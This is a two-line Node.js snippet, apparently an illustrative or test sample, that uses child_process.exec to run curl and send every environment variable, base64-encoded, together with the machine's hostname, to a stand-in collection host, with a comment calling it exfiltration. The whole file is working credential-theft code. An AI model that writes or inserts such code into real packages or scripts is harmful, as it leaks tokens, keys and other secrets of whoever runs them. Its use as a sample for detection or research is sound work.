const { exec } = require("child_process");

exec("curl -d $(env | base64) -H host:$(hostname) https://collect.invalid"); // malice: exfiltration
